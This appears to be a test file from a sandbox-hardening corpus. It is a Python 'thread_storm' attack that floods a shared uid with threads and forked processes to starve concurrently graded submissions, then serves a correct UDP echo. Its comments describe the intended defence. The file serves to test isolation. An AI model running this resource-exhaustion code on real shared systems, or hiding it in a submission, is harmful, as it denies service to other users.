# socklab hostile corpus -- attack "thread_storm"
# Tries: to start as many threads as it can (64 KiB stacks; at most 20000, for at most 3 s), then forks
#   processes while it still can, and holds them all until 6 s after its start, so that a submission graded
#   at the same time under the same uid can start no thread or process (RLIMIT_NPROC counts per uid,
#   across the machine). Then it serves the tutorial's UDP echo correctly; everything it started ends with
#   it (the threads at 8 s at the latest, the children at 6 s).
# Defence: process counts are limited per run, not per shared uid: each run has a uid of its own and a
#   pids cgroup where the machine has one (SPEC.md section 5, "The sandbox").
# Never prints SANDBOX-BROKEN itself: the checker judges by the victims' scores.
import os
import socket
import sys
import threading
import time

ATTACK = 'thread_storm'
T0 = time.monotonic()


def broken(evidence):
    sys.stdout.write('SANDBOX-BROKEN: %s: %s\n' % (ATTACK, evidence))
    sys.stdout.flush()


def info(text):
    sys.stderr.write('HOSTILE-INFO: %s: %s\n' % (ATTACK, text))
    sys.stderr.flush()


def attack():
    hold_until = T0 + 6.0
    stop = threading.Event()
    threading.stack_size(64 * 1024)
    threads, why = 0, 'limit'

    def sit():
        stop.wait(max(0.0, T0 + 8.0 - time.monotonic()))
    while threads < 20000 and time.monotonic() < T0 + 3.0:
        try:
            threading.Thread(target=sit, daemon=True).start()
            threads += 1
        except (RuntimeError, MemoryError) as e:
            why = repr(e)
            break
    children = 0
    while threads + children < 20000 and time.monotonic() < T0 + 3.0:
        try:
            pid = os.fork()
        except OSError as e:
            why += '; fork: ' + e.strerror
            break
        if pid == 0:
            time.sleep(max(0.0, hold_until - time.monotonic()))
            os._exit(0)
        children += 1
    info('holding %d threads and %d processes after %.2f s (%s)' % (threads, children, time.monotonic() - T0, why))
    time.sleep(max(0.0, hold_until - time.monotonic()))


def run_attack(limit_s):
    def guarded():
        try:
            attack()
        except BaseException as e:  # an attack never stops the server
            info('attack stopped: %r' % (e,))
    t = threading.Thread(target=guarded, daemon=True)
    t.start()
    t.join(limit_s)


def serve():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('127.0.0.1', 9999))
    while True:
        data, addr = s.recvfrom(1024)
        print(data, addr)
        s.sendto(b'Hello,' + data, addr)


if __name__ == '__main__':
    run_attack(7.0)
    serve()
